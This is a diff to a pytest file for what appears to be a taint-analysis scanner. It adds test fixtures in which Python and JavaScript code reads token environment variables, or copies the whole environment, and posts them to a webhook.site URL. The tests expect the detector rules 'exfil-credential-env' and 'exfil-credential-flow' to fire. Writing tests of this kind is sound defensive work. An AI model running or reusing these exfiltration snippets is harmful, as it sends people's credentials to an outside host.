@@ -37,18 +37,27 @@ def _run(text: str, kind: FileKind, lang: Lang) -> tuple[int, set[str]]:
 
 
 @pytest.mark.parametrize(
-    ("text", "kind", "lang"),
+    ("text", "kind", "lang", "rules"),
     [
         ("".join(f"k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n" for n in range(30)),
-         FileKind.PYTHON, PY),
+         FileKind.PYTHON, PY, set()),
+        ("".join(f"k{n} = os.environ.get('A{n}_TOKEN')\nrequests.post('https://webhook.site/x', data=k{n})\n"
+                 for n in range(30)), FileKind.PYTHON, PY, {"exfil-credential-env"}),
         ("".join(f"const k{n} = process.env.A{n}; axios.post(U, k{n});\n" for n in range(30)),
-         FileKind.JAVASCRIPT, JS),
-        ("e = os.environ.copy()\nrequests.post('https://webhook.site/x', data=e)\n", FileKind.PYTHON, PY),
+         FileKind.JAVASCRIPT, JS, set()),
+        ("".join(f"const k{n} = process.env.A{n}_TOKEN; axios.post('https://webhook.site/x', k{n});\n"
+                 for n in range(30)), FileKind.JAVASCRIPT, JS, {"exfil-credential-env"}),
+        ("e = os.environ.copy()\nrequests.post('https://webhook.site/x', data=e)\n", FileKind.PYTHON, PY,
+         {"exfil-credential-flow"}),
     ],
 )  # fmt: skip
-def test_names_bound_by_a_statement_ask_for_no_second_round(text: str, kind: FileKind, lang: Lang) -> None:
-    rounds, _ = _run(text, kind, lang)
+def test_names_bound_by_a_statement_ask_for_no_second_round(
+    text: str, kind: FileKind, lang: Lang, rules: set[str]
+) -> None:
+    # the taint found in that one round is the whole of it (a webhook destination makes it a finding)
+    rounds, found = _run(text, kind, lang)
     assert rounds == 1
+    assert found == rules
 
 
 def test_a_change_reaching_back_still_runs_another_round() -> None:
